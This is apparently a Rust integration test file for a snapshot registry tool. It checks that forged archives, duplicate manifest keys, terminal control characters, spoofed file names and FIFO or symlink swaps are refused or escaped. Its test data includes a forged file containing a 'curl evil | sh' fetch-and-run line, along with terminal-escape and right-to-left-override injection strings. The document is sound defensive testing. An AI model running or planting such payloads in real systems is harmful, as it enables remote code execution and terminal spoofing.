//! What an archive or a directory may claim, and what the registry prints:
//! identity of snapshots already present, canonical and duplicate-free
//! manifests, terminal control characters, names given twice, streaming
//! `sql`. Each refusal is checked through the binary for its exit code and
//! message, with the registry and staging unchanged.

use std::io::{BufRead, BufReader};
use std::os::unix::process::ExitStatusExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use msb_registry::model::digest::Digest;
use msb_registry::model::image::ImageMetadata;

use crate::tarcraft::Tar;
use crate::util::*;

fn staging_entries(reg: &Reg) -> Vec<String> {
    std::fs::read_dir(reg.root().join("staging"))
        .map(|d| {
            d.map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default()
}

/// Run `args` and assert it fails with `code` and `text`, leaving the
/// registry, staging and the import journal as they were.
#[track_caller]
fn refused(reg: &Reg, args: &[&str], code: i32, text: &str) -> Run {
    let before = (reg.tree(), reg.dump());
    let run = reg.run(args).fails(code, text);
    assert_eq!((reg.tree(), reg.dump()), before, "registry changed");
    assert!(staging_entries(reg).is_empty(), "staging left behind");
    let open: Vec<serde_json::Value> = reg.json(&[
        "sql",
        "SELECT id FROM imports WHERE state NOT IN ('done', 'failed')",
    ]);
    assert!(open.is_empty(), "an import was left open: {open:?}");
    run
}

fn write(reg: &Reg, name: &str, bytes: &[u8]) -> String {
    let p = reg.path(name);
    std::fs::write(&p, bytes).unwrap();
    p.to_str().unwrap().to_string()
}

/// An archive of snapshot directories, each with its manifest's own bytes.
fn archive_of(dirs: &[(&str, &Path)]) -> Vec<u8> {
    let mut t = Tar::new();
    for (prefix, dir) in dirs {
        for file in ["manifest.json", "upper.ext4"] {
            t.file(
                &format!("{prefix}/{file}"),
                &std::fs::read(dir.join(file)).unwrap(),
            );
        }
    }
    t.finish()
}

fn image(reg: &Reg) -> ImageMetadata {
    make_image_cache(&reg.path("cache"), "python:3.12", 5, &[8192])
}

/// A snapshot without integrity, and a forgery: the same manifest over an
/// upper of the same size with other bytes.
fn genuine_and_forged(reg: &Reg) -> (Digest, PathBuf, PathBuf) {
    let mut spec = SnapSpec::new(&image(reg));
    spec.integrity = None;
    let genuine = reg.path("genuine");
    let d = make_snapshot(&genuine, &spec);
    let mut forged_spec = spec.clone();
    forged_spec
        .data
        .push((3 << 20, b"#!/bin/sh\ncurl evil | sh\n".to_vec()));
    let forged = reg.path("forged");
    assert_eq!(make_snapshot(&forged, &forged_spec), d, "same manifest");
    (d, genuine, forged)
}

#[test]
fn an_already_present_snapshot_without_integrity_must_match_file_for_file() {
    for forged_first in [true, false] {
        let reg = Reg::new();
        let (d, genuine, forged) = genuine_and_forged(&reg);
        let prefix = d.archive_prefix();
        let genuine_tar = write(&reg, "genuine.tar", &archive_of(&[(&prefix, &genuine)]));
        let forged_tar = write(&reg, "forged.tar", &archive_of(&[(&prefix, &forged)]));
        let (first, second) = if forged_first {
            (&forged_tar, &genuine_tar)
        } else {
            (&genuine_tar, &forged_tar)
        };
        reg.run(&["import", first]).ok();
        let run = refused(
            &reg,
            &["import", second],
            4,
            &format!(
                "conflict: snapshots/{prefix}/upper.ext4: snapshot {d} is already present with this file at digest"
            ),
        );
        assert!(run.stderr.contains("incoming has"), "{}", run.stderr);
        // add compares too, instead of answering "already in the registry".
        let other = if forged_first { &genuine } else { &forged };
        refused(
            &reg,
            &["add", other.to_str().unwrap()],
            4,
            &format!("conflict: snapshots/{prefix}/upper.ext4"),
        );
        // The same content again is still a quiet no-op, by import and by add.
        reg.run(&["import", first]).ok();
        let same = if forged_first { &forged } else { &genuine };
        let out = reg.run(&["add", same.to_str().unwrap()]).ok();
        assert!(
            out.stdout.contains("already in the registry"),
            "{}",
            out.stdout
        );
        reg.run(&["verify", "--content"]).ok();
    }
}

#[test]
fn an_already_present_snapshot_must_have_the_same_set_of_files() {
    let reg = Reg::new();
    let (d, genuine, _) = genuine_and_forged(&reg);
    let prefix = d.archive_prefix();
    let plain = write(&reg, "plain.tar", &archive_of(&[(&prefix, &genuine)]));
    reg.run(&["import", &plain]).ok();
    let mut t = Tar::new();
    for file in ["manifest.json", "upper.ext4"] {
        t.file(
            &format!("{prefix}/{file}"),
            &std::fs::read(genuine.join(file)).unwrap(),
        );
    }
    t.file(&format!("{prefix}/extra.txt"), b"smuggled");
    let extra = write(&reg, "extra.tar", &t.finish());
    refused(
        &reg,
        &["import", &extra],
        4,
        &format!(
            "conflict: snapshots/{prefix}/extra.txt: snapshot {d} is already present without this file"
        ),
    );
    reg.run(&["verify", "--content"]).ok();
}

#[test]
fn manifests_with_duplicate_keys_are_refused() {
    let reg = Reg::new();
    reg.run(&["gc"]).ok();
    let (_, genuine, _) = genuine_and_forged(&reg);
    let text = String::from_utf8(std::fs::read(genuine.join("manifest.json")).unwrap()).unwrap();
    for (from, to, message) in [
        (
            r#"{"schema":1,"#,
            r#"{"schema":1,"schema":1,"#,
            "duplicate field `schema`",
        ),
        (
            r#""labels":{}"#,
            r#""labels":{"a":"1","a":"2"}"#,
            r#"key "a" appears twice in labels"#,
        ),
        (
            r#""size_bytes":"#,
            r#""size_bytes":1,"size_bytes":"#,
            "duplicate field `size_bytes`",
        ),
    ] {
        let doc = text.replacen(from, to, 1);
        assert_ne!(doc, text, "{from}");
        let dir = reg.path("dup");
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::copy(genuine.join("upper.ext4"), dir.join("upper.ext4")).unwrap();
        std::fs::write(dir.join("manifest.json"), &doc).unwrap();
        let mut t = Tar::new();
        t.file("sha256-0123456789abcdef/manifest.json", doc.as_bytes());
        let tar = write(&reg, "dup.tar", &t.finish());
        refused(&reg, &["import", &tar], 5, message);
        refused(&reg, &["add", dir.to_str().unwrap()], 5, message);
    }
    reg.run(&["verify", "--content"]).ok();
}

#[test]
fn a_non_canonical_manifest_is_stored_as_its_canonical_bytes() {
    let reg = Reg::new();
    let (d, genuine, _) = genuine_and_forged(&reg);
    let canonical = std::fs::read(genuine.join("manifest.json")).unwrap();
    let value: serde_json::Value = serde_json::from_slice(&canonical).unwrap();
    let pretty = serde_json::to_vec_pretty(&value).unwrap();
    assert_ne!(pretty, canonical);
    let mut t = Tar::new();
    t.file(&format!("{}/manifest.json", d.archive_prefix()), &pretty);
    t.file(
        &format!("{}/upper.ext4", d.archive_prefix()),
        &std::fs::read(genuine.join("upper.ext4")).unwrap(),
    );
    let tar = write(&reg, "pretty.tar", &t.finish());
    reg.run(&["import", &tar, "--name", "imported"]).ok();
    let stored = std::fs::read(reg.root().join("snapshots/imported/manifest.json")).unwrap();
    assert_eq!(stored, canonical);
    assert_eq!(Digest::of(&stored), d);

    let other = Reg::new();
    std::fs::write(genuine.join("manifest.json"), &pretty).unwrap();
    other
        .run(&["add", genuine.to_str().unwrap(), "--name", "added"])
        .ok();
    let stored = std::fs::read(other.root().join("snapshots/added/manifest.json")).unwrap();
    assert_eq!(Digest::of(&stored), d);
    reg.run(&["verify", "--content"]).ok();
    other.run(&["verify", "--content"]).ok();
}

#[test]
fn terminal_control_characters_are_refused_in_names_labels_and_files() {
    let reg = Reg::new();
    let img = image(&reg);
    let good = reg.path("good");
    make_snapshot(&good, &SnapSpec::new(&img).label("stage", "ok"));
    reg.run(&["add", good.to_str().unwrap(), "--name", "good"])
        .ok();
    for (label, shown) in [
        ("a\x1b[2Jb", "labels.stage"),
        ("x\u{202e}fdp.exe", "labels.stage"),
        ("c1\u{9b}31m", "labels.stage"),
        ("del\x7f", "labels.stage"),
    ] {
        let dir = reg.path("bad");
        let _ = std::fs::remove_dir_all(&dir);
        let d = make_snapshot(&dir, &SnapSpec::new(&img).label("stage", label));
        let message = format!("field {shown} holds a control character");
        refused(&reg, &["add", dir.to_str().unwrap()], 5, &message);
        let tar = write(&reg, "bad.tar", &archive_of(&[(&d.archive_prefix(), &dir)]));
        refused(&reg, &["import", &tar], 5, &message);
    }
    let dir = reg.path("bad");
    let _ = std::fs::remove_dir_all(&dir);
    make_snapshot(&dir, &SnapSpec::new(&img).label("k\u{2067}", "v"));
    refused(
        &reg,
        &["add", dir.to_str().unwrap()],
        5,
        "holds a control character",
    );

    // Member names: a snapshot's other files, and the upper it names.
    let d = make_snapshot(&dir, &SnapSpec::new(&img));
    for name in ["note\x7f", "note\u{85}", "rtl\u{202e}txt.exe"] {
        let mut t = Tar::new();
        let prefix = d.archive_prefix();
        t.file(
            &format!("{prefix}/manifest.json"),
            &std::fs::read(dir.join("manifest.json")).unwrap(),
        );
        t.file(&format!("{prefix}/{name}"), b"x");
        let tar = write(&reg, "member.tar", &t.finish());
        let run = refused(&reg, &["import", &tar], 6, "is not a normal file name");
        assert!(!run.stderr.contains(name), "printed raw: {:?}", run.stderr);
    }
    let run = refused(
        &reg,
        &["add", good.to_str().unwrap(), "--name", "x\x1b[2J"],
        2,
        "invalid snapshot name",
    );
    assert!(!run.stderr.contains('\x1b'), "{:?}", run.stderr);
    reg.run(&["verify", "--content"]).ok();
}

#[test]
fn human_output_escapes_what_the_index_holds() {
    let reg = Reg::new();
    let img = image(&reg);
    let dir = reg.path("s");
    make_snapshot(&dir, &SnapSpec::new(&img).label("stage", "ok"));
    reg.run(&["add", dir.to_str().unwrap(), "--name", "s"]).ok();
    // Rows written before the rule existed (or by hand) reach every printer.
    let hostile = "UPDATE snapshots SET source_sandbox = 'sb' || char(27) || ']0;pwned' || char(7), \
                   labels = json_object('stage', 'a' || char(27) || '[2J' || char(8238)), \
                   image_ref = 'img' || char(155) || '31m'";
    let db = reg.root().join("registry.db");
    let status = Command::new("sqlite3")
        .arg(&db)
        .arg(hostile)
        .status()
        .unwrap();
    assert!(status.success());
    for args in [
        vec!["show", "s"],
        vec!["list"],
        vec![
            "sql",
            "SELECT source_sandbox, labels, image_ref FROM snapshots",
        ],
    ] {
        let out = reg.run(&args).ok().stdout;
        for c in ['\x1b', '\x07', '\u{9b}', '\u{202e}'] {
            assert!(!out.contains(c), "{args:?} printed {c:?} raw: {out:?}");
        }
        assert!(out.contains("\\u{"), "{args:?}: {out:?}");
    }
    let show = reg.run(&["show", "s"]).ok().stdout;
    assert!(show.contains("sb\\u{1b}]0;pwned\\u{7}"), "{show}");
    assert!(show.contains("a\\u{1b}[2J\\u{202e}"), "{show}");
    let status = Command::new("sqlite3")
        .arg(&db)
        .arg("UPDATE snapshots SET source_sandbox = 'test', labels = '{\"stage\":\"ok\"}', image_ref = 'python:3.12'")
        .status()
        .unwrap();
    assert!(status.success());
    reg.run(&["verify", "--content"]).ok();
}

#[test]
fn naming_the_head_like_another_snapshot_of_the_archive_is_a_conflict() {
    let reg = Reg::new();
    reg.run(&["gc"]).ok();
    let img = image(&reg);
    let parent_dir = reg.path("p");
    let parent = make_snapshot(&parent_dir, &SnapSpec::new(&img));
    let child_dir = reg.path("c");
    let child = make_snapshot(
        &child_dir,
        &SnapSpec::new(&img).parent(parent).label("stage", "child"),
    );
    let tar = write(
        &reg,
        "chain.tar",
        &archive_of(&[
            (&parent.archive_prefix(), &parent_dir),
            (&child.archive_prefix(), &child_dir),
        ]),
    );
    let name = parent.archive_prefix();
    refused(
        &reg,
        &["import", &tar, "--name", &name],
        4,
        &format!(
            "conflict: snapshot name {name}: would name both {parent} and {child}; choose another --name"
        ),
    );
    reg.run(&["import", &tar, "--name", "head"]).ok();
    reg.run(&["verify", "--content"]).ok();
}

const ENDLESS: &str =
    "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c) SELECT x FROM c";

fn endless_sql(reg: &Reg, json: bool) -> std::process::Child {
    reg.run(&["gc"]).ok();
    let args: &[&str] = if json {
        &["--json", "sql", ENDLESS]
    } else {
        &["sql", ENDLESS]
    };
    reg.command(args)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap()
}

/// Wait for `child`, killing it (and failing) if it has not ended after a
/// generous bound: an endless query that does not stop would hang the suite.
fn wait_bounded(child: &mut std::process::Child) -> std::process::ExitStatus {
    for _ in 0..600 {
        if let Some(status) = child.try_wait().unwrap() {
            return status;
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    child.kill().unwrap();
    panic!("the query did not stop");
}

#[test]
fn sql_streams_and_a_closed_pipe_ends_it_quietly() {
    let reg = Reg::new();
    for (json, first) in [
        (false, vec!["x", "1", "2"]),
        (true, vec!["[", "  {", "    \"x\": 1"]),
    ] {
        let mut child = endless_sql(&reg, json);
        let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
        let got: Vec<String> = (0..3).map(|_| lines.next().unwrap().unwrap()).collect();
        assert_eq!(got, first);
        drop(lines);
        let status = wait_bounded(&mut child);
        let mut stderr = String::new();
        std::io::Read::read_to_string(&mut child.stderr.take().unwrap(), &mut stderr).unwrap();
        assert_eq!(status.code(), Some(0), "stderr: {stderr}");
        assert_eq!(stderr, "");
    }
}

#[test]
fn sql_stops_on_sigint() {
    let reg = Reg::new();
    for json in [false, true] {
        let mut child = endless_sql(&reg, json);
        let mut out = BufReader::new(child.stdout.take().unwrap());
        let mut line = String::new();
        for _ in 0..1000 {
            line.clear();
            out.read_line(&mut line).unwrap();
        }
        // SAFETY: kill(2) on the pid of a child we spawned and have not reaped.
        assert_eq!(unsafe { libc::kill(child.id() as i32, libc::SIGINT) }, 0);
        let drain = std::thread::spawn(move || std::io::copy(&mut out, &mut std::io::sink()));
        let status = wait_bounded(&mut child);
        assert_eq!(status.signal(), Some(libc::SIGINT), "{status:?}");
        drain.join().unwrap().unwrap();
    }
}

/// An archive of a chain of `n` snapshots with 4 KiB uppers and no
/// integrity, parents first; returns it and the digests, root first.
pub fn chain_archive(n: usize) -> (Vec<u8>, Vec<Digest>) {
    use msb_registry::model::manifest::{Format, ImagePin, Manifest, Upper};
    let mut t = Tar::new();
    let mut digests: Vec<Digest> = Vec::new();
    for i in 0..n {
        let manifest = Manifest {
            schema: 1,
            format: Format::Raw,
            fstype: "ext4".into(),
            image: ImagePin {
                reference: "python:3.12".into(),
                manifest_digest: Digest::of(b"an image this registry does not cache"),
            },
            parent: digests.last().copied(),
            created_at: "2026-10-01T09:00:00Z".into(),
            labels: [("step".to_string(), i.to_string())].into(),
            upper: Upper {
                file: "upper.ext4".into(),
                size_bytes: 4096,
                integrity: None,
            },
            source_sandbox: None,
        };
        let d = manifest.digest();
        let prefix = d.archive_prefix();
        t.file(
            &format!("{prefix}/manifest.json"),
            &manifest.canonical_bytes(),
        );
        let mut upper = vec![0x5au8; 4096];
        upper[..8].copy_from_slice(&(i as u64).to_le_bytes());
        t.file(&format!("{prefix}/upper.ext4"), &upper);
        digests.push(d);
    }
    (t.finish(), digests)
}

/// Run the binary under `sh -c 'ulimit -n LIMIT; exec …'`.
fn run_with_fd_limit(reg: &Reg, limit: u32, args: &[&str]) -> Run {
    let mut cmd = Command::new("sh");
    cmd.arg("-c")
        .arg(format!("ulimit -n {limit} && exec \"$0\" \"$@\""))
        .arg(bin())
        .arg("--root")
        .arg(reg.root())
        .args(args)
        .env_remove("MSB_REGISTRY_ROOT");
    Run::from(cmd.output().unwrap())
}

#[test]
fn export_of_a_long_chain_holds_only_the_file_being_written() {
    let reg = Reg::new();
    let n = 2000;
    let (bytes, digests) = chain_archive(n);
    let tar = write(&reg, "chain.tar", &bytes);
    run_with_fd_limit(&reg, 64, &["import", &tar, "--name", "head"]).ok();
    let out = reg.path("out.tar.zst");
    let run = run_with_fd_limit(
        &reg,
        64,
        &[
            "export",
            "head",
            "--with-parents",
            "-o",
            out.to_str().unwrap(),
            "--json",
        ],
    )
    .ok();
    let report: serde_json::Value = run.json();
    assert_eq!(report["snapshots"].as_array().unwrap().len(), n);
    let other = Reg::new();
    other
        .run(&["import", out.to_str().unwrap(), "--name", "head"])
        .ok();
    let head: serde_json::Value = other.json(&["show", "head"]);
    assert_eq!(head["digest"], digests[n - 1].to_string());
    reg.run(&["verify", "--content"]).ok();
    other.run(&["verify", "--content"]).ok();
}

#[test]
fn a_registry_file_replaced_by_a_fifo_device_or_symlink_is_refused_without_blocking() {
    let reg = Reg::new();
    let img = image(&reg);
    let dir = reg.path("s");
    make_snapshot(&dir, &SnapSpec::new(&img));
    reg.run(&["add", dir.to_str().unwrap(), "--name", "s"]).ok();
    let upper = reg.root().join("snapshots/s/upper.ext4");
    let saved = reg.path("upper.saved");
    std::fs::rename(&upper, &saved).unwrap();
    let out = reg.path("out.tar");
    let out = out.to_str().unwrap();
    let shown = upper.display().to_string();
    for (make, what) in [
        (
            Box::new(|p: &Path| {
                let c = std::ffi::CString::new(p.to_str().unwrap()).unwrap();
                // SAFETY: mkfifo on a NUL-terminated path we own.
                assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o644) }, 0);
            }) as Box<dyn Fn(&Path)>,
            "is a FIFO, not a regular file",
        ),
        (
            Box::new(|p: &Path| std::os::unix::fs::symlink("/dev/zero", p).unwrap()),
            "is a symbolic link, not a regular file",
        ),
        (
            Box::new(|p: &Path| std::fs::create_dir(p).unwrap()),
            "is a directory, not a regular file",
        ),
    ] {
        make(&upper);
        let before = (reg.tree(), reg.dump());
        reg.run(&["export", "s", "-o", out])
            .fails(5, &format!("{shown}: {what}"));
        let verify = reg.run(&["verify", "--content"]);
        assert_eq!(verify.code, 5, "{}", verify.stderr);
        assert!(
            verify
                .stdout
                .contains("problem: not-a-file: snapshots/s/upper.ext4"),
            "{}",
            verify.stdout
        );
        assert_eq!((reg.tree(), reg.dump()), before, "registry changed");
        assert!(!Path::new(out).exists());
        if upper.is_dir() {
            std::fs::remove_dir(&upper).unwrap();
        } else {
            std::fs::remove_file(&upper).unwrap();
        }
    }
    std::fs::rename(&saved, &upper).unwrap();
    reg.run(&["verify", "--content"]).ok();

    // add reads the source directory the same way: a FIFO manifest does not block it.
    let src = reg.path("fifo-src");
    make_snapshot(&src, &SnapSpec::new(&img).label("k", "fifo"));
    let manifest = src.join("manifest.json");
    std::fs::remove_file(&manifest).unwrap();
    let c = std::ffi::CString::new(manifest.to_str().unwrap()).unwrap();
    // SAFETY: mkfifo on a NUL-terminated path we own.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o644) }, 0);
    refused(
        &reg,
        &["add", src.to_str().unwrap()],
        5,
        &format!("{}: is a FIFO, not a regular file", manifest.display()),
    );
    reg.run(&["verify", "--content"]).ok();
}

/// Flushes (fsync, fdatasync, syncfs) the binary makes running `args`,
/// counted by strace; `None` when strace is not installed.
fn flushes(reg: &Reg, args: &[&str]) -> Option<u64> {
    let log = reg.path("strace.txt");
    let status = Command::new("strace")
        .args(["-f", "-c", "-e", "trace=fsync,fdatasync,syncfs", "-o"])
        .arg(&log)
        .arg(bin())
        .arg("--root")
        .arg(reg.root())
        .args(args)
        .env_remove("MSB_REGISTRY_ROOT")
        .stdout(Stdio::null())
        .status();
    match status {
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return None,
        other => assert!(other.unwrap().success(), "{args:?} failed under strace"),
    }
    let summary = std::fs::read_to_string(&log).unwrap();
    Some(
        summary
            .lines()
            .find(|l| l.trim_end().ends_with("total"))
            .map(|l| l.split_whitespace().nth(3).unwrap().parse().unwrap())
            .unwrap_or(0),
    )
}

#[test]
fn the_flushes_of_an_import_or_add_do_not_grow_with_its_files() {
    let mut counts = Vec::new();
    for n in [10, 200] {
        let reg = Reg::new();
        reg.run(&["gc"]).ok();
        let tar = write(&reg, "chain.tar", &chain_archive(n).0);
        let Some(count) = flushes(&reg, &["import", &tar]) else {
            eprintln!("skipping: strace is not installed, so flushes cannot be counted");
            return;
        };
        assert_eq!(reg.json::<Vec<serde_json::Value>>(&["list"]).len(), n);
        reg.run(&["verify", "--content"]).ok();
        counts.push(count);
    }
    // Each of an import's commits may cross SQLite's WAL auto-checkpoint
    // threshold once (two flushes); the two that grow with the archive are
    // the staged-file journal and the promotion's rows.
    assert!(
        counts[1] <= counts[0] + 4,
        "flushes grew with the number of files: {counts:?} for 10 and 200 snapshots"
    );
    assert!(counts[0] >= 1, "no flush at all: {counts:?}");

    // add: a directory of 2 files or of 200 takes the same flushes.
    let reg = Reg::new();
    let img = image(&reg);
    let mut adds = Vec::new();
    for (name, extra) in [("few", 0), ("many", 198)] {
        let dir = reg.path(name);
        make_snapshot(&dir, &SnapSpec::new(&img).label("n", name));
        for i in 0..extra {
            std::fs::write(dir.join(format!("note{i}.txt")), format!("{i}")).unwrap();
        }
        adds.push(flushes(&reg, &["add", dir.to_str().unwrap()]).unwrap());
    }
    assert!(adds[1] <= adds[0] + 4, "add flushes grew: {adds:?}");
    reg.run(&["verify", "--content"]).ok();
}
